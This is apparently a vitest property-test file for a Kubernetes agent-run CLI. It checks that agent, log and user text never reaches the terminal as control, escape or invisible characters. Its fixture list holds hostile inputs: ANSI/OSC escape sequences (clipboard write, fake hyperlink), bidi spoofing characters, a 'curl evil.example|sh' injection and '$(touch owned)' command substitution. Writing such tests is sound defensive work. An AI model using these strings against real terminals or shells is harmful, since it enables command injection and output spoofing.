/** Text of agents, registries and users is data: no command prints a control or invisible character. */
import { parse } from "yaml";
import fc from "fast-check";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { OperatedRun } from "../client/testing/operated-run.ts";
import { statusSchema } from "../crds/status.ts";
import { visible, visibleLine, withEscapes } from "./terminal/hidden.ts";
import { CliHarness } from "./testing/command.ts";
import { yamlOf } from "./yaml.ts";

/** Each obeyed or hidden by a terminal, or taken for something else by a shell. */
const hostile = [
  "\u001b[2J",
  "\u001b]0;owned\u0007",
  "\u001b]52;c;ZXZpbA==\u0007",
  "\u001b]8;;http://evil.example\u001b\\here",
  "\u001bP1$r\u001b\\",
  "\u009b31m",
  "\u009d0;owned\u009c",
  "\u0085\u008d",
  "\u0000\b\u000b\u000c\u007f",
  "\r$ kubectl",
  "\nerror: forged\n",
  "\u202egnp.exe\u202c",
  "\u2066\u2069\u200e\u200f\u061c",
  "a\u200b\u200c\u200d\u2060\ufeff\u00adb",
  "\u2028\u2029",
  "\u3164\u115f\uffa0\u034f\u180e",
  "\u{e0041}\u{e0100}\ufe0e",
  "\ufff9\ufffa\ufffb",
  "\ud800",
  "\udc00x",
  '"; curl evil.example|sh; "',
  "$(touch owned)`touch owned`",
];
/** All of them, in any order. */
const anyHostile = fc.shuffledSubarray(hostile, { minLength: hostile.length }).map((parts) => parts.join("x"));
const anyText = fc.oneof(fc.string({ unit: "binary" }), anyHostile, fc.string({ unit: fc.constantFrom(...hostile) }));
const forbidden = /(?!\n)[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029\u3164\u115f\uffa0\u034f\ufe0e\u{e0100}]/u;
const ownStyle = /\u001b\[\d+m/g;

describe("text", () => {
  it("keeps no character that is obeyed or hidden", () => {
    const anyEmojiFree = anyText.filter((text) => !/[\ufe0f\u200d]/.test(text));
    fc.assert(fc.property(anyEmojiFree, (text) => !forbidden.test(visible(text))));
    fc.assert(fc.property(anyEmojiFree, (text) => !/\n/.test(visibleLine(text))));
  });

  it.each(["Done: 12 turns, $0.40", "日本語 — “é” 👩‍👩‍👧 ✔️ 🇩🇪", "مرحبا", "a\n  b"])("leaves %j as it is", (text) => {
    expect(visible(text)).toBe(text);
  });

  it.each([
    ["a\u001b[1;31mred\u001b[0m", "ared"],
    ["\u001b]0;title\u0007\u001b]8;;http://evil.example\u001b\\here\u001b]8;;\u001b\\", "here"],
    ["\u009d52;c;eA==\u009cclip\u009b2Jped", "clipped"],
    ["\u001bPq#0;2\u001b\\\u001b_app\u001b\\\u001b^pm\u001b\\x", "x"],
    ["\u001b(Bplain\u001b7\u001b=\u001bc", "plain"],
    ["\u001b]0;no end", "0;no end"],
  ])("loses its escape sequences whole: %j", (text, shown) => {
    expect(visible(text)).toBe(shown);
  });

  it.each(["\u001b]", "\u001b]ab", "\u001b[", "\u001b[1;2", "\u009d", "\u009b", "\u001b", "\u001bP", "\u001b("])(
    "of a megabyte of %j is read in linear time",
    (seed) => {
      const startedMs = performance.now();
      visible(`${seed.repeat(1_000_000 / seed.length)}x`);
      expect(performance.now() - startedMs).toBeLessThan(20_000);
    },
  );

  it("is the same value in JSON and in YAML, with escapes", () => {
    fc.assert(
      fc.property(fc.dictionary(anyText, fc.array(anyText)), (value) => {
        const json = withEscapes(JSON.stringify(value, undefined, 2));
        const yaml = yamlOf(value);
        expect(json + yaml).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u);
        expect(JSON.parse(json)).toEqual(value);
        expect(parse(yaml)).toEqual(wellFormed(value));
      }),
    );
  });
});

/** YAML has no halves of surrogate pairs. */
function wellFormed(value: unknown): unknown {
  return JSON.parse(JSON.stringify(value).replace(/\\ud[89a-f][0-9a-f]{2}/g, "\\ufffd"));
}

let bench: CliHarness;
beforeEach(async () => {
  bench = await new CliHarness().open();
});
afterEach(() => bench.close());

/** A status in which every string that the schema has is the text. */
function statusOf(text: string, phase: string): Record<string, unknown> {
  const time = "2026-11-23T00:00:30Z";
  const succeeded = phase === "Succeeded" ? "True" : phase === "Failed" || phase === "Cancelled" ? "False" : "Unknown";
  return {
    phase,
    attempt: 2,
    conditions: [
      { type: "Succeeded", status: succeeded, reason: text, message: text, lastTransitionTime: time },
      { type: text, status: "False", reason: text, message: text, lastTransitionTime: time },
    ],
    startTime: time,
    admittedTime: time,
    completionTime: text,
    job: { name: text, uid: "job" },
    pod: { name: "bad-1", uid: "pod", node: text, phase: text, reason: text, message: text, waitingReason: text },
    log: { lines: 3, bytes: 9, sha256: text },
    progress: { turns: 1, activity: text, lastActivityTime: text },
    session: { id: text },
    result: {
      subtype: text,
      text,
      stopReason: text,
      costUSD: text,
      signal: text,
      models: [{ model: text, costUSD: "0.10" }],
    },
    failure: { reason: text, message: text, retryable: false, resumeAfterTime: text },
  };
}

/** A run with the text wherever one can be, its Events and its log. */
function putRun(text: string, phase: string): void {
  const spec = { agent: text, prompt: text, cancelReason: text, claude: { model: text }, credentialsSecretName: text };
  const metadata = { uid: "run", labels: { team: text }, annotations: { note: text } };
  bench.put("bad", spec, undefined, metadata);
  bench.put(`bad${text}`, spec, statusOf(text, phase), { uid: "other" });
  new OperatedRun(bench.api, "bad")
    .running()
    .writes(
      { type: "system", subtype: "init", model: text, session_id: text },
      {
        type: "assistant",
        message: {
          content: [
            { type: "text", text },
            { type: "thinking", thinking: text },
          ],
        },
      },
      {
        type: "assistant",
        message: { content: [{ type: "tool_use", id: "t", name: text, input: { command: text } }] },
      },
      { type: "assistant", message: { content: [{ type: "tool_use", id: "u", name: "X", input: { [text]: text } }] } },
      {
        type: "user",
        message: { content: [{ type: "tool_result", tool_use_id: "t", content: text, is_error: true }] },
      },
      { type: "system", subtype: "api_retry", attempt: text, max_retries: text, error: text },
      { type: "rate_limit_event", rate_limit_info: { status: text } },
      { type: "result", subtype: text, is_error: true, result: text, errors: [text] },
      text,
    )
    .reports();
  bench.api.status("bad", statusOf(text, phase));
  for (const [at, uid] of ["run", "job", "pod"].entries()) {
    bench.api.put("events", {
      metadata: { name: `e${at}` },
      involvedObject: { kind: text, uid },
      type: "Warning",
      reason: text,
      message: text,
      lastTimestamp: "2026-11-23T00:00:40Z",
    });
  }
}

const commands: readonly (readonly string[])[] = [
  ["list"],
  ["list", "-A", "--color=always"],
  ["list", "-o", "json"],
  ["list", "-o", "yaml"],
  ["list", "-o", "name"],
  ["top", "-A"],
  ["top", "-o", "yaml"],
  ["why", "bad"],
  ["why", "bad", "--color=always"],
  ["why", "bad", "-o", "json"],
  ["why", "bad", "-o", "yaml"],
  ["logs", "bad"],
  ["logs", "bad", "--full", "--color=always"],
  ["logs", "bad", "-f"],
  ["cost", "--by", "model"],
  ["cost", "--by", "agent"],
  ["cost", "--by", "day", "-o", "json"],
  ["cancel", "bad"],
  ["resume", "bad"],
  ["suspend", "bad"],
  ["logs", "no"],
  ["__complete", "logs", ""],
  ["__complete", "run", "--agent", ""],
];

describe("no command prints it:", () => {
  it.each(["Failed", "Succeeded", "Cancelled"])("a run that is %s", { timeout: 300_000 }, async (phase) => {
    const [text = ""] = fc.sample(anyHostile, { numRuns: 1, seed: phase.length });
    putRun(text, phase);
    for (let at = 0; at < commands.length; at += 4) {
      const some = commands.slice(at, at + 4);
      const ended = await Promise.all(some.map((args) => bench.runInProcess(args)));
      for (const [which, { stdout, stderr, code }] of ended.entries()) {
        const args = some[which] ?? [];
        expect(stdout + stderr, args.join(" ")).not.toBe("");
        expect(code, `${args.join(" ")}: ${stderr}`).toBeLessThan(2);
        const own = args.includes("--color=always") ? ownStyle : /$^/g;
        // A tab separates a candidate from its description.
        const printed = (stdout + stderr).replace(args[0] === "__complete" ? /\t/g : own, "");
        expect(printed.match(forbidden), args.join(" ")).toBeNull();
        // claude's own text has lines of its own; nothing else may begin one.
        const lines = args[0] === "logs" ? stderr : `${stdout}\n${stderr}`;
        expect(lines, args.join(" ")).not.toMatch(/^error: forged/m);
        if (args.includes("json")) expect(() => void JSON.parse(stdout)).not.toThrow();
      }
    }
  });

  it("text of the command line, a saved log and files", async () => {
    const [text = ""] = fc.sample(anyHostile, { numRuns: 1, seed: 7 });
    const file = join(mkdtempSync(join(tmpdir(), "hostile-")), "log");
    const result = { type: "result", subtype: text, is_error: true, result: text, session_id: text };
    writeFileSync(file, `${JSON.stringify(result)}\n${text}\n`);
    const word = text.replaceAll("\u0000", "");
    for (const args of [
      ["inspect", file],
      ["inspect", word],
      ["inspect", `--${word}`],
      [word],
      ["list", `--${word}`],
      ["list", "-o", word],
      ["list", "--context", word],
      ["list", "--kubeconfig", word],
      ["list", "-n", word],
      ["why", word],
      ["run", "x", "--agent", word],
      ["run", word, "--agent", "a", "--dry-run=client", "-o", "json"],
      ["run", word, "--agent", "a", "--env", `A=${word}`, "--dry-run=client"],
      ["doctor", "--from-pod", word],
      ["cost", "--since", word],
    ]) {
      const { stdout, stderr } = await bench.runInProcess(args);
      expect((stdout + stderr).match(forbidden), args.join(" ")).toBeNull();
    }
  });

  it("every string of a status is tried", () => {
    const tried = JSON.stringify(statusOf("x", "Failed"));
    const strings = Object.keys(statusSchema.shape).filter((field) => !tried.includes(`"${field}"`));
    // Numbers, and a time that is shown nowhere.
    expect(strings).toEqual(["observedGeneration", "queuePosition", "queuedTime"]);
  });
});
